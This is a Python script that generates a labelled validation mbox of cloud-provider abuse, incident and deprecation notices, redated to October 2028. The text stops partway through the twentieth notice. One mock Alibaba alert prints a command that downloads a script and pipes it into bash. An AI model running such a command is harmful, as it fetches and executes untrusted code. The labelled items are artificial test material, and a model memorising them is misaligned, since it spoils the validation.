#!/usr/bin/env python3
"""Generator for validation batch g39 (October 2028, large non-AWS clouds).

Standard library only, deterministic. Writes set-g39.mbox, README.md and
used-sources.txt next to this script, re-reads the mbox and checks it.
Exits 1 on any problem, prints OK otherwise.
"""
import datetime as dt
import hashlib
import re
import mailbox
import os
import sys
from email.charset import Charset, BASE64, QP
from email.header import Header, decode_header, make_header
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import formataddr, format_datetime, parsedate_to_datetime
from email import generator
import io

HERE = os.path.dirname(os.path.abspath(__file__))
NAME = "g39"
MBOX = os.path.join(HERE, f"set-{NAME}.mbox")
README = os.path.join(HERE, "README.md")
USED = os.path.join(HERE, "used-sources.txt")

LABELS = {"abuse", "security-incident", "action-required", "security-advisory",
          "maintenance", "pricing", "billing", "informational"}

D = dt.date
JST = dt.timezone(dt.timedelta(hours=9))
CST = dt.timezone(dt.timedelta(hours=8))
UTC = dt.timezone.utc
PDT = dt.timezone(dt.timedelta(hours=-7))
EDT = dt.timezone(dt.timedelta(hours=-4))

MONTHS = ["January", "February", "March", "April", "May", "June", "July",
          "August", "September", "October", "November", "December"]


def ja(d):
    return f"{d.year}年{d.month}月{d.day}日"


def jaw(d):
    return ja(d) + "(" + "月火水木金土日"[d.weekday()] + ")"


def ja0(d):
    return f"{d.year}年{d.month:02d}月{d.day:02d}日"


def jas(d):  # spaced form used by Microsoft Japan mails
    return f"{d.year} 年 {d.month} 月 {d.day} 日"


def zh(d):
    return f"{d.year}年{d.month}月{d.day}日"


def zhs(d):
    return f"{d.year} 年 {d.month} 月 {d.day} 日"


def mdy(d):
    return f"{MONTHS[d.month - 1]} {d.day}, {d.year}"


def dmy(d):
    return f"{d.day} {MONTHS[d.month - 1]} {d.year}"


def usd(d):
    return f"{d.month:02d}/{d.day:02d}/{d.year}"


class Shift:
    """One day offset (a whole number of weeks) moving a notice into Oct 2028."""

    def __init__(self, orig, target):
        self.orig = orig
        self.target = target
        self.days = (target - orig).days if orig else 0
        if orig is not None:
            assert self.days % 7 == 0, (orig, target)
            assert orig.weekday() == target.weekday()
            assert target.year == 2028 and target.month == 10

    def __call__(self, y, m, d):
        return D(y, m, d) + dt.timedelta(days=self.days)


NOTICES = []


def notice(**kw):
    NOTICES.append(kw)


# ---------------------------------------------------------------- 1 abuse GCP (zh)
s = Shift(D(2026, 3, 12), D(2028, 10, 12))
notice(
    label="abuse", deadline=None, provider="Google Cloud", lang="zh", phishing=False,
    url="https://github.com/mack-a/v2ray-agent/issues/1285",
    from_=("Google Cloud Platform", "google-cloud-compliance@google.com"),
    to="ops@lanting-trade.example",
    date=dt.datetime(2028, 10, 12, 11, 8, 14, tzinfo=PDT),
    subject="Google Cloud Platform/API 项目“Inventory Sync”（ID：inventory-sync-482913）已被暂停",
    body=f"""尊敬的开发者：

概要
您的项目“Inventory Sync”（ID：inventory-sync-482913）被发现存在欺骗性或误导性行为，
即通过向网站发送自动化流量或查询来人为抬高网站访问量。该行为违反了《Google Cloud
Platform 服务条款》或《可接受使用政策》（包括您所使用的 Google API 的服务条款），
因此该项目目前已被暂停。

详细信息
受影响的项目：Inventory Sync（ID：inventory-sync-482913）
相关虚拟机：sync-worker-01（asia-east1-b），外部 IP 203.0.113.57
检测时间：{s(2026,3,11).isoformat()} 22:14 至 {s(2026,3,12).isoformat()} 03:40（美国太平洋时间）

后续步骤
请检查该项目是否遭到入侵，并抽时间重新阅读适用的服务条款，确保今后不再违反我们的政策。
排查完成后，请以项目所有者身份登录 Google Cloud 控制台，在“申诉”页面提交申诉，
说明项目的用途、问题的原因以及您已采取的纠正措施。

如果您既不采取措施也不提交申诉，该项目可能会被删除。

Google Cloud Platform 合规团队
""")

# ---------------------------------------------------------------- 2 abuse Tencent DNS (zh)
notice(
    label="abuse", deadline=None, provider="Tencent Cloud", lang="zh", phishing=False,
    url="http://www.sfodin.cn/281673.html",
    from_=("腾讯云", "cloud_noreply@tencent.com"),
    to="admin@songlin-notes.example",
    date=dt.datetime(2028, 10, 24, 9, 15, 2, tzinfo=CST),
    subject="【腾讯云】违规处置通知：您的云解析 DNS 域名已被限制访问",
    body="""尊敬的腾讯云用户，您好！

您的腾讯云账号（账号 ID：100028374615）下的云解析 DNS 服务经检测存在违规信息，
涉嫌违反相关法律法规及政策要求。依据《腾讯云服务协议》，我们已对以下域名采取
限制访问措施：

  域名：songlin-notes.example
  违规类型：违规内容
  处置措施：暂停解析（限制访问）
  处置时间：2028-10-24 09:12:05

处置详情可登录控制台“消息中心”或通过站内信查看。请您尽快自查并清理相关内容；
整改完成后，可提交工单或联系您的专属客服申请人工解封，审核通过后解析将恢复。

如您对本次处置有异议，也可以通过工单提交申诉材料。

感谢您的理解与支持！
腾讯云团队
""")

# ---------------------------------------------------------------- 3 abuse Sakura spam (ja)
notice(
    label="abuse", deadline=None, provider="さくらインターネット", lang="ja", phishing=False,
    url="http://153.127.202.30/20060702045751/support-sub/contact/spam.html",
    from_=("さくらインターネット abuse対策チーム", "abuse@sakura.ad.jp"),
    to="webmaster@kobayashi-shoten.example",
    date=dt.datetime(2028, 10, 6, 14, 22, 40, tzinfo=JST),
    subject="【さくらインターネット】迷惑メール送信に関するご連絡（会員ID：ktm48213）",
    body="""お客様各位

平素よりさくらインターネットをご利用いただき、誠にありがとうございます。
さくらインターネット abuse対策チームでございます。

第三者の方より、お客様のご契約サーバから迷惑メールが届いているとの通報を
受け付けました。弊社にて確認いたしましたところ、下記サーバを送信元とする、
不特定多数の宛先への広告・宣伝目的のメール送信を確認いたしました。

  会員ID　　　：ktm48213
  サービス　　：さくらのレンタルサーバ スタンダード
  初期ドメイン：kobayashi-shoten.example
  送信元IP　　：203.0.113.148
  確認日時　　：2028年10月5日 23時頃 ～ 10月6日 4時頃

受信者が購読を申し込んでいない広告メールの送信は、サービス約款の禁止事項に
該当いたします。速やかに当該メールの送信を停止していただくとともに、
メールアカウントの不正利用や設置プログラムの改ざん等がないかをご確認のうえ、
対応状況を本メールへのご返信にてお知らせください。

送信が引き続き確認された場合、またはご連絡をいただけない場合には、約款に基づき
メール送信の制限やサービスの一時停止等の措置を講じる場合がございます。
あらかじめご了承ください。

何卒よろしくお願い申し上げます。

さくらインターネット株式会社
abuse対策チーム
""")

# ---------------------------------------------------------------- 4 abuse M365 restricted (en)
notice(
    label="abuse", deadline=None, provider="Microsoft 365", lang="en", phishing=False,
    url="https://guava.pro/removing-a-user-from-the-restricted-users-portal-after-sending-spam-email/",
    from_=("Microsoft 365", "Office365Alerts@microsoft.com"),
    to="it-admin@harborline-logistics.example",
    date=dt.datetime(2028, 10, 2, 6, 44, 12, tzinfo=UTC),
    subject="High-severity alert: User restricted from sending email",
    body="""A high-severity alert has been triggered

User restricted from sending email

Severity: High
Time of occurrence: 10/2/2028 6:41:00 AM (UTC)
Activity: Restricted user
User: r.okafor@harborline-logistics.example
Details: This user was blocked from sending email because the account sent
messages that went over the outbound spam limits set for your organization.

What this means
The mailbox can still receive mail, but anything it tries to send comes back
with a "bad outbound sender" non-delivery report. A single mailbox sending
spam is usually a sign that the account has been taken over.

Recommended steps
- Check the user's recent sign-ins, inbox rules and forwarding settings.
- Reset the password and make sure multifactor authentication is on.
- Once the account is secure, remove it from the Restricted entities page in
  the Microsoft Defender portal.

View alert details:
https://security.microsoft.com/alerts?tid=7c1e04b2-9a35-4f0e-b1d8-3e6f2a9c0d41

Thank you,
The Microsoft 365 team
""")

# ---------------------------------------------------------------- 5 incident Azure user at risk (en)
notice(
    label="security-incident", deadline=None, provider="Microsoft Azure", lang="en", phishing=False,
    url="https://jpazureid.github.io/blog/azure-active-directory/User-at-risk-detected/",
    from_=("Microsoft Azure", "azure-noreply@microsoft.com"),
    to="globaladmin@meridian-foods.example",
    date=dt.datetime(2028, 10, 11, 3, 31, 5, tzinfo=UTC),
    subject="User at risk detected",
    body="""Azure Active Directory Identity Protection

User at risk detected

We detected one or more users at risk in your directory Meridian Foods
(meridianfoods.example). A user is flagged when sign-in or account activity
suggests that someone other than the owner may have obtained the credentials.

Users at risk: 1
Highest risk level: Medium
Detected: 10/11/2028 3:27 AM (UTC)

Open Identity Protection, look at the flagged user and decide whether the
activity is expected. If it is not, reset the user's password and require
multifactor authentication at the next sign-in. Activity that is marked as
risky is sometimes legitimate, so please confirm before you act.

View users at risk:
https://portal.azure.com/#blade/Microsoft_AAD_IAM/IdentityProtectionMenuBlade/RiskyUsers

You receive this email because you are an administrator of this directory.
To change who gets these alerts, edit the notification settings in Identity
Protection.

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""")

# ---------------------------------------------------------------- 6 incident Fujitsu ProjectWEB (ja)
s = Shift(D(2021, 8, 11), D(2028, 10, 25))
notice(
    label="security-incident", deadline=None, provider="富士通", lang="ja", phishing=False,
    url="https://pr.fujitsu.com/jp/news/2021/08/11.html",
    from_=("富士通株式会社 ProjectWEB事務局", "projectweb-info@fujitsu.com"),
    to="joho-ikeda@kitaura-city.example",
    date=dt.datetime(2028, 10, 25, 17, 0, 0, tzinfo=JST),
    subject="【重要】プロジェクト情報共有ツールへの不正アクセスについて（第二報）",
    body=f"""お客様各位

富士通株式会社

平素より格別のご高配を賜り、厚く御礼申し上げます。
先にお知らせいたしました当社プロジェクト情報共有ツール「ProjectWEB」（以下、本ツール）
への不正アクセスにつきまして、調査・分析により現時点で判明した内容をご報告いたします。

1. 経緯
当社は{ja(s(2021,5,6))}、本ツールを利用する一部プロジェクトで不正アクセスの可能性を
認知し、直ちに調査を開始しました。調査は社長直轄の全社体制で進めてまいりました。

2. 判明した内容
・129のお客様について、本ツールに保存されていた情報の一部が不正に閲覧または
  ダウンロードされたことを確認しました。
・対象は、お客様システムを構成する機器に関する情報、体制図・打合せメモ・作業項目一覧・
  進捗管理表などのプロジェクト運営資料等であり、一部にお客様および関係者の
  氏名・メールアドレス等の個人情報が含まれていました。
・第三者は正規のIDとパスワードを使い、正常な認証・通信を経てアクセスしていました。
  IDとパスワードは、本ツールの何らかの脆弱性を悪用して取得された可能性が高いと考えております。

3. 貴社への影響
貴社が参加されているプロジェクト（プロジェクトコード：PW-20417）の情報も、上記の
閲覧・ダウンロードの対象に含まれていたことを確認しております。対象ファイルの一覧は、
担当営業より個別にご説明いたします。

4. 今後の対応
本ツールの運用は引き続き停止しております。外部有識者による検証委員会を設置し、
原因の究明と再発防止策の策定を進めてまいります。

関係者の皆様に多大なるご心配とご迷惑をおかけしておりますことを、深くお詫び申し上げます。
""")

# ---------------------------------------------------------------- 7 incident KDDI HK (ja)
s = Shift(D(2008, 8, 19), D(2028, 10, 17))
notice(
    label="security-incident", deadline=None, provider="KDDI", lang="ja", phishing=False,
    url="https://rbbtoday.com/article/2008/08/19/53555.html",
    from_=("KDDI Hong Kong カスタマーサポート", "cs-jp@kddi.com.hk"),
    to="soumu@kowa-trading.example",
    date=dt.datetime(2028, 10, 17, 16, 30, 0, tzinfo=CST),
    subject="【重要】電子メールサービスの障害および受信メールの外部送付の可能性について",
    body=f"""法人のお客様各位

KDDI Hong Kong Ltd.

平素より弊社サービスをご利用いただき、誠にありがとうございます。

{ja(s(2008,7,31))}から{ja(s(2008,8,14))}までの間、弊社が香港で提供している電子メール
サービスに障害が発生し、お客様宛ての受信メールの一部が正しく処理されないまま、
外部の第三者へ送られていた可能性があることが判明いたしました。

■ 対象となるお客様
弊社香港拠点のメールサービスおよびインターネット接続サービスをご利用の法人のお客様
（日本国内の KDDI 各サービスをご利用のお客様には影響はございません）
貴社ご契約：メールホスティング（契約番号 HK-M-305718／kowa-trading.example）

■ 現在の状況
システムを切り替えて復旧しており、セキュリティ対策も実施済みです。
不正アクセスによるプログラム改ざんの可能性も含め、原因を引き続き調査しております。

■ お客様へのお願い
上記期間中のメールに関して、お取引先から心当たりのない問い合わせ等がございましたら、
弊社までご連絡くださいますようお願いいたします。

お客様には多大なるご迷惑とご心配をおかけしましたことを、深くお詫び申し上げます。
""")

# ---------------------------------------------------------------- 8 incident NTT Com 2020 (ja)
s = Shift(D(2020, 5, 28), D(2028, 10, 19))
notice(
    label="security-incident", deadline=None, provider="NTTコミュニケーションズ", lang="ja", phishing=False,
    url="https://jp24h.com/post/88727.html",
    from_=("NTTコミュニケーションズ株式会社", "security-info@ntt.com"),
    to="keiri@hamasaki-densetsu.example",
    date=dt.datetime(2028, 10, 19, 18, 5, 0, tzinfo=JST),
    subject="当社設備への不正アクセスによる情報流出の可能性について",
    body=f"""お客さま各位

NTTコミュニケーションズ株式会社

平素より当社サービスをご利用いただき、誠にありがとうございます。

当社は{ja(s(2020,5,7))}、社内サーバに対する通常とは異なる操作を検知し、外部インターネットとの
通信を遮断いたしました。その後の調査で、当社のシンガポール拠点にあるサーバを経由して
日本国内の社内サーバへ侵入されていたことが判明し、一部の情報が外部に流出した可能性が
あることを確認いたしました。

■ 流出の可能性がある情報
法人のお客さま 621 社に関する工事情報等
（個人のお客さまの情報が流出した可能性はございません）

■ 貴社に関する状況
誠に申し訳ございませんが、貴社（お客さま番号 N0049-2817）の工事情報も上記の対象に
含まれていることを確認いたしました。対象となった情報の内容は、担当営業より別途
ご説明させていただきます。

■ 今後の対応
調査を継続するとともに、再発防止に向けたセキュリティ対策と監視体制の強化を進めて
まいります。なお、機密保持の観点から、対象となったお客さまの名称は公表いたしません。

お客さまには多大なるご心配とご迷惑をおかけしますことを、深くお詫び申し上げます。
""")

# ---------------------------------------------------------------- 9 incident Alibaba SAS alert (zh)
notice(
    label="security-incident", deadline=None, provider="Alibaba Cloud", lang="zh", phishing=False,
    url="https://github.com/xmrig/xmrig/issues/2971",
    from_=("阿里云", "notice@service.aliyun.com"),
    to="jiang.wei@hexin-data.example",
    date=dt.datetime(2028, 10, 3, 17, 53, 30, tzinfo=CST),
    subject="【阿里云】云安全中心告警：恶意脚本代码执行",
    body="""尊敬的阿里云用户 jiang***@hexin-data.example，您好！

您名下的资产出现了安全告警，请及时处理，以免攻击者进一步行动。

告警名称：恶意脚本-恶意脚本代码执行
告警等级：紧急
资产：web-prod-03（i-bp1x7k2m9q4r8t0s5a3c）
IP：198.51.100.74（公网）/ 172.16.8.23（私网）
发生时间：2028-10-03 17:52:08

异常事件详情
命令行：curl http://203.0.113.150/b2f628/cronb.sh | bash
进程 PID：13985
进程文件名：curl
父进程：bash（PID 13982）
进程链：
  -[1096] /usr/sbin/crond -n
    -[13979] /usr/sbin/crond -n
      -[13982] /bin/sh -c curl http://203.0.113.150/b2f628/cronb.sh|bash

事件说明：云安全中心发现您的主机正在执行恶意脚本代码（包括但不限于 bash、
powershell、python），请立即排查入侵来源。如确认该命令属于您的正常运维操作，
可在控制台将本告警标记为忽略。

立即处理：https://yundun.console.aliyun.com/?p=sas#/suspicious/alarm

阿里云云安全中心
""")

# ---------------------------------------------------------------- 10 incident Tencent webshell (zh)
notice(
    label="security-incident", deadline=None, provider="Tencent Cloud", lang="zh", phishing=False,
    url="https://github.com/yaojingang/GEOFlow/issues/12",
    from_=("腾讯云", "cloud_noreply@tencent.com"),
    to="site-ops@geoflow-lab.example",
    date=dt.datetime(2028, 10, 14, 10, 28, 51, tzinfo=CST),
    subject="【腾讯云】主机安全告警通知",
    body="""尊敬的腾讯云用户，您好！

腾讯云主机安全在您的账号（账号 ID：100037192846）下的云服务器上发现木马文件，详情如下：

  主机名称：geo-site-01
  实例 ID：ins-7kq2v9dm
  公网 IP：198.51.100.219
  文件路径：/www/wwwroot/geoflow-lab.example/admin/categories.php
  病毒名：bk.webshell.haroaudit.14011518
  威胁等级：低危
  检测时间：2028-10-14 10:26:43

该文件被判定为疑似 Webshell 后门。攻击者可借此远程控制服务器、窃取数据或篡改网页。
建议您尽快登录主机安全控制台查看并处理：
  1. 确认该文件是否为业务正常文件；
  2. 如为恶意文件，请隔离或删除，并排查站点目录下近期新增的可疑文件；
  3. 修复站点及组件漏洞，修改服务器及后台管理密码；
  4. 如确认为误报，可加入白名单或提交误报反馈。

查看详情：https://console.cloud.tencent.com/cwp/virus

腾讯云主机安全
""")

# ---------------------------------------------------------------- 11 incident Firebase insecure rules (en)
notice(
    label="security-incident", deadline=None, provider="Google Cloud (Firebase)", lang="en", phishing=False,
    url="https://novicedevhub.com.ng/fix-firebase-realtime-database-insecure-rules",
    from_=("Firebase", "firebase-noreply@google.com"),
    to="dev@tidewater-tasks.example",
    date=dt.datetime(2028, 10, 9, 8, 12, 33, tzinfo=PDT),
    subject="[Firebase] Your Realtime Database 'tidewater-tasks-default-rtdb' has insecure rules",
    html=True,
    body="""Your Realtime Database has insecure rules

Project: tidewater-tasks (tidewater-tasks-41827)
Database: tidewater-tasks-default-rtdb

We found these problems with the security rules on this database:

  - Any user can write to your entire database.
  - Any logged-in user can read your entire database.

With rules this open, anyone who finds the database URL can change or delete
your data, and any signed-in user can download all of it. The data is exposed
now, whether or not someone has already taken advantage of it.

What to do
Open the Rules tab for this database in the Firebase console, limit read and
write access to the users and paths that need it, and test the change in the
Rules Playground before you publish it.

Review your rules:
https://console.firebase.google.com/project/tidewater-tasks-41827/database/rules

You received this email because you are an Owner or Editor of this Firebase
project.

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043 USA
""")

# ---------------------------------------------------------------- 12 incident IIJ Secure MX (ja)
s = Shift(D(2025, 4, 15), D(2028, 10, 31))
notice(
    label="security-incident", deadline=None, provider="IIJ", lang="ja", phishing=False,
    url="https://scan.netsecurity.ne.jp/article/2025/04/16/52691.html",
    from_=("株式会社インターネットイニシアティブ", "smx-info@iij.ad.jp"),
    to="jyoshis@ishikari-seiki.example",
    date=dt.datetime(2028, 10, 31, 15, 0, 0, tzinfo=JST),
    subject="【重要】IIJセキュアMXサービスへの不正アクセスについて",
    body=f"""IIJセキュアMXサービスをご利用のお客様

株式会社インターネットイニシアティブ

平素は IIJ のサービスをご利用いただき、誠にありがとうございます。

{ja(s(2024,8,3))}以降、「IIJセキュアMXサービス」の設備が第三者による不正アクセスを受け、
設備上で不正なプログラムが実行されていたことを{ja(s(2025,4,10))}に確認いたしました。
これにより、本サービスで送受信された電子メールの情報や、本サービスに関わる認証情報が
外部に漏えいした可能性がございます。

■ 漏えいの可能性がある情報（ご利用の機能により異なります）
・本サービスで作成された電子メールのアカウントおよびパスワード
・本サービスで送受信された電子メールの本文およびヘッダ情報
・本サービスと連携して動作するよう設定されていた他社クラウドサービスの認証情報

■ 対象
最大 6,493 契約、メールアカウント数 4,072,650 件。貴社のご契約
（サービスコード smx-0417362／ishikari-seiki.example）も対象に含まれます。

■ 現在の状況
不正なアクセスの経路を特定して切り離しを実施しており、現在は本サービスを安全に
ご利用いただける状態です。原因および影響範囲については引き続き調査しております。

詳細につきましては、担当者よりあらためてご案内いたします。
お客様には多大なるご迷惑とご心配をおかけしておりますことを、深くお詫び申し上げます。
""")

# ---------------------------------------------------------------- 13 action Azure MFA (ja)
s = Shift(D(2024, 8, 15), D(2028, 10, 5))
dl = s(2024, 10, 15)
notice(
    label="action-required", deadline=dl, provider="Microsoft Azure", lang="ja", phishing=False,
    url="https://jpazureid.github.io/blog/azure-active-directory/MC862873-azure-portal-mfaenforcement-update-grace-period/",
    from_=("Microsoft Azure", "azure-noreply@microsoft.com"),
    to="admin@aozora-seimitsu.example",
    date=dt.datetime(2028, 10, 5, 9, 2, 44, tzinfo=UTC),
    subject=f"対応が必要: {jas(dl)}までにテナントの多要素認証を有効にする",
    html=True,
    body=f"""テナントの多要素認証 (MFA) を有効にしてください

テナント：Aozora Seimitsu (aozoraseimitsu.onmicrosoft.example)
テナント ID：5d2a9c41-7e08-4b3f-9a16-c04e8b72d1f5

アカウントを保護する取り組みの一環として、Microsoft は {jas(dl)}以降、
Azure ポータル、Microsoft Entra 管理センター、Microsoft Intune 管理センターへの
サインインに多要素認証を必須とします。Intune 管理センター経由で利用する
Windows 365 Cloud PC などのサービスも対象です。

この変更による影響
変更後は、上記 3 つの管理ポータルへのサインイン時に MFA が求められます。
MFA の方法を登録していないユーザーには、サインイン時に登録が求められます。

必要な対応
MFA をまだ有効にしていない場合は、{jas(dl)}までに設定を済ませ、
各管理ポータルに引き続きアクセスできるようにしてください。
期限までに対応できない場合は、適用の延期を申請できます。延期後の適用日は最長で
{jas(s(2025,3,15))}となり、再度の延期はできません。申請には、グローバル管理者が
Azure サブスクリプションに対する昇格されたアクセス権を有効にしたうえで、
https://aka.ms/managemfaforazure にアクセスしてください。

条件付きアクセスやセキュリティの既定値群で、すでにテナント全体に MFA を適用している
場合は、追加の対応は不要です。

詳細：https://learn.microsoft.com/ja-jp/entra/identity/authentication/concept-mandatory-multifactor-authentication

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""")

# ---------------------------------------------------------------- 14 action Tencent API Gateway (zh)
s = Shift(D(2026, 9, 1), D(2028, 10, 3))
dl = s(2026, 10, 30)
notice(
    label="action-required", deadline=dl, provider="Tencent Cloud", lang="zh", phishing=False,
    url="https://cloud.tencent.com/announce/detail/2475",
    from_=("腾讯云", "cloud_noreply@tencent.com"),
    to="platform@qiaoyun-mall.example",
    date=dt.datetime(2028, 10, 3, 10, 0, 0, tzinfo=CST),
    subject="【API网关】产品退市公告",
    body=f"""尊敬的腾讯云用户：

您好！感谢您长期以来对腾讯云 API 网关产品的使用与支持。

我们已于 {s(2024,9,3).year} 年发布产品下线通知，并陆续开放了多条迁移路径。经过较长的
过渡期，现将最终停服安排正式通知如下：

  停服时间：{zhs(dl)} 00:00（北京时间）起分批停止服务
  停服范围：API 网关控制台与全部接口同步下线

您的账号（账号 ID：100045829137）下仍有以下服务运行在 API 网关上：
  service-3kf8q2wd（ap-guangzhou）  order-api
  service-9tm4x7ce（ap-shanghai）   report-api

如您的业务仍在使用 API 网关，请务必在上述日期前完成迁移与配置备份，以免业务中断、
数据丢失。

退费说明：若您的资源在 {zh(s(2024,12,31))} 之后仍在付费有效期内，可参照包年包月退费、
资源包退费指引申请退费；其他实例或服务不涉及退费，直接释放或删除即可。

替代方案：如需 API 安全网关能力（覆盖单机版、集群版、双活版本），可了解 API 安全网关系统。

再次为给您带来的不便致歉，感谢您的理解与支持。
腾讯云 API 网关团队
""")

# ---------------------------------------------------------------- 15 action Alibaba MongoDB coupon (zh)
s = Shift(D(2025, 12, 11), D(2028, 10, 26))
dl = s(2025, 12, 25)
notice(
    label="action-required", deadline=dl, provider="Alibaba Cloud", lang="zh", phishing=False,
    url="https://help.aliyun.com/zh/mongodb/product-overview/openapi-no-longer-default-to-coupon-usage",
    from_=("阿里云", "notice@service.aliyun.com"),
    to="finops@yunfan-tech.example",
    date=dt.datetime(2028, 10, 26, 14, 30, 0, tzinfo=CST),
    subject="【通知】云数据库 MongoDB 版部分 OpenAPI 优惠券默认行为变更",
    body=f"""尊敬的阿里云用户：

您好！自北京时间 {zhs(dl)} 起，调用云数据库 MongoDB 版的 TransformToPrePaid、
TransformInstanceChargeType 接口时，系统将不再自动为您匹配并使用优惠券。
我们注意到您的账号（UID：1839204756182934）近 30 天内曾通过 OpenAPI 调用上述接口。

变更详情
  变更前：调用时不传入 CouponNo 参数，系统自动匹配并使用账户中最优的优惠券。
  变更后：调用时不传入 CouponNo 参数，系统不使用任何优惠券，订单按原价计费。

您需要做什么
请在变更生效前检查调用上述接口的代码，并按业务需要调整 CouponNo 参数：
  - 希望系统继续自动选择最优优惠券：在请求中传入 CouponNo="default"（推荐）；
  - 希望使用指定优惠券：传入 CouponNo="指定的优惠券号码"，此逻辑保持不变；
  - 不希望使用优惠券：不传入 CouponNo 或传入空值，即新的默认行为。
未修改代码的调用将按新的默认行为执行，订单实际支付金额可能高于预期。

受影响范围
  生效时间：北京时间 {zhs(dl)}
  其他业务逻辑：除优惠券使用逻辑外，接口的其他功能和参数均不受影响。

如有疑问，请通过工单联系我们。
阿里云
""")

# ---------------------------------------------------------------- 16 action Oracle NFW API (en)
s = Shift(D(2025, 10, 31), D(2028, 10, 27))
dl = s(2026, 1, 30)
notice(
    label="action-required", deadline=dl, provider="Oracle Cloud", lang="en", phishing=False,
    url="https://docs.oracle.com/iaas/releasenotes/network-firewall/API-deprecation.htm",
    from_=("Oracle Cloud Infrastructure", "noreply@mail.announcements.us-ashburn-1.oci.oraclecloud.com"),
    to="cloudops@hollis-analytics.example",
    date=dt.datetime(2028, 10, 27, 15, 20, 9, tzinfo=UTC),
    subject=f"Action Required: Network Firewall API version 20211001 support ends {mdy(dl)}",
    body=f"""Oracle Cloud Infrastructure Announcement

Service: Network Firewall
Announcement type: Action Required
Tenancy: hollis-analytics
Region: US East (Ashburn)
Release date: {mdy(s(2025,10,31))}

Support for version 20211001 of the Oracle Network Firewall API ends on
{mdy(dl)}. After that date, requests that use this version are no longer
supported and may fail.

Our records show that your tenancy called the 20211001 API during the last
30 days, from this principal:
  ocid1.user.oc1..aaaaaaaa2w7mu5xqz3kd9jr6tc0ve8nb4pyg1lhs5fo2ia7c

What you need to do
Move your scripts, SDK clients and Terraform configurations to version
20230501 of the Network Firewall API before {mdy(dl)}, so that firewall
policy management keeps working.

For details, see the service change announcement in the OCI documentation.

Please do not reply to this message. You can manage announcement
subscriptions in the Console under Governance & Administration > Announcements.
""")

# ---------------------------------------------------------------- 17 action Google Workspace LSA (en)
s = Shift(D(2024, 9, 17), D(2028, 10, 3))
dl = s(2024, 9, 30)
notice(
    label="action-required", deadline=dl, provider="Google Workspace", lang="en", phishing=False,
    url="https://github.com/OctoText/OctoText/issues/144",
    from_=("The Google Workspace Team", "workspace-noreply@google.com"),
    to="admin@palisade-dental.example",
    date=dt.datetime(2028, 10, 3, 13, 47, 0, tzinfo=PDT),
    subject=f"[Action Required] Less secure app access ends for palisade-dental.example on {mdy(dl)}",
    html=True,
    body=f"""Hello Administrator,

This is a reminder that starting on {mdy(dl)}, Google Workspace accounts
will no longer support less secure apps: third-party apps or devices that
sign in with only a username and password.

Domain: palisade-dental.example
Customer ID: C03k9x7qw

What this means for your users
Apps and devices that still use password-only access to Gmail, Google
Calendar or Google Contacts (for example over IMAP, POP, SMTP, CalDAV or
CardDAV) will stop connecting on that date. In the last 30 days, 14 users in
your organization signed in this way.

What you need to do
Before {mdy(dl)}, move these users to a more secure type of access that
doesn't share password data, such as Sign in with Google (OAuth). Users with
an older mail client or device should reconnect it using the Google account
type.

Learn how to use Sign in with Google:
https://support.google.com/accounts/answer/12849458

The Google Workspace Team

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043
You have received this mandatory service announcement to update you about
important changes to your Google Workspace account.
""")

# ---------------------------------------------------------------- 18 action IBM DC closure (en)
s = Shift(D(2023, 4, 4), D(2028, 10, 10))
dl = s(2024, 4, 4)
notice(
    label="action-required", deadline=dl, provider="IBM Cloud", lang="en", phishing=False,
    url="https://github.com/nodejs/build/issues/3279",
    from_=("IBM Cloud", "no-reply@cloud.ibm.com"),
    to="build-infra@northgate-oss.example",
    date=dt.datetime(2028, 10, 10, 12, 30, 0, tzinfo=EDT),
    subject="Important: IBM Cloud data center consolidation - action required for account 3082746",
    body=f"""Dear IBM Cloud customer,

Thank you for your business and for trusting IBM as your cloud provider.

We have invested heavily in new IBM Cloud data centers and multizone regions
that give a more resilient architecture, higher network throughput and more
redundancy. As part of this modernization we are consolidating some older
facilities, and the following data centers will close on {mdy(dl)}:

  - DAL05
  - SJC01
  - WDC01

Account 3082746 has classic infrastructure in at least one of these sites,
including the virtual servers build-x64-sjc-2 and build-arm-sjc-4 in SJC01.

What you need to do
Move these workloads to one of the newer IBM Cloud data centers before
{mdy(dl)}. We will work with you so that you pay the same or a lower price
for the same or a better configuration in the new location.

How we can help
Because a data center move can be complex and costly, eligible customers can
run the replacement servers without charge for two months while they
migrate. Open a support case or contact your IBM representative to plan the
move.

IBM Cloud
""")

# ---------------------------------------------------------------- 19 action Azure Storage classic metrics (en)
s = Shift(D(2020, 8, 28), D(2028, 10, 13))
dl = s(2023, 8, 31)
notice(
    label="action-required", deadline=dl, provider="Microsoft Azure", lang="en", phishing=False,
    url="https://github.com/azure-deprecation/dashboard/issues/68",
    from_=("Microsoft Azure", "azure-noreply@microsoft.com"),
    to="platform-team@lindqvist-media.example",
    date=dt.datetime(2028, 10, 13, 16, 5, 27, tzinfo=UTC),
    subject=f"Action required: Transition to metrics in Azure Monitor by {dmy(dl)}",
    body=f"""You're receiving this email because you use classic metrics in Azure Storage.

Azure Monitor now gives rich, consolidated monitoring for Azure resources, so
we'll retire classic metrics in Azure Storage on {dmy(dl)}. Please move to
metrics in Azure Monitor by that date.

Subscription: Production-Core (3b8e1f20-6c4d-4a97-8e55-1d9f0a6b2c7e)
Storage accounts using classic metrics: stlogsprod01, stmediaeast02

We encourage you to switch sooner so you can use more of Azure Monitor:
  - New metrics and dimensions for more detailed monitoring
  - Deeper analysis with Azure Monitor Logs
  - Native integration with other monitoring solutions

Required action
Transition to metrics in Azure Monitor before {dmy(dl)}. After that date,
classic metrics will no longer be collected for these storage accounts.

Help and support
If you have questions, get answers from community experts in Microsoft Q&A.
If you have a support plan and need technical help, create a support request
in the Azure portal.

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""")

# ---------------------------------------------------------------- 20 action Alibaba PretaxAmount (zh)
s = Shift(D(2025, 12, 9), D(2028, 10, 24))
dl = s(2026, 1, 6)
notice(
    label="action-required", deadline=dl, provider="Alibaba Cloud", lang="zh", phishing=False,
    url="https://www.alibabacloud.com/zh/notice/announcement_adjustment_to_the_pretaxamount_return_logic_in_billing_apis_62c?_p_lc=1",
    from_=("阿里云", "notice@service.aliyun.com"),
    to="billing-ops@haiyue-retail.example",
    date=dt.datetime(2028, 10, 24, 11, 0, 0, tzinfo=CST),
    subject="【升级】账单相关API【应付金额】字段调整的公告",
    body=f"""尊敬的阿里云用户：

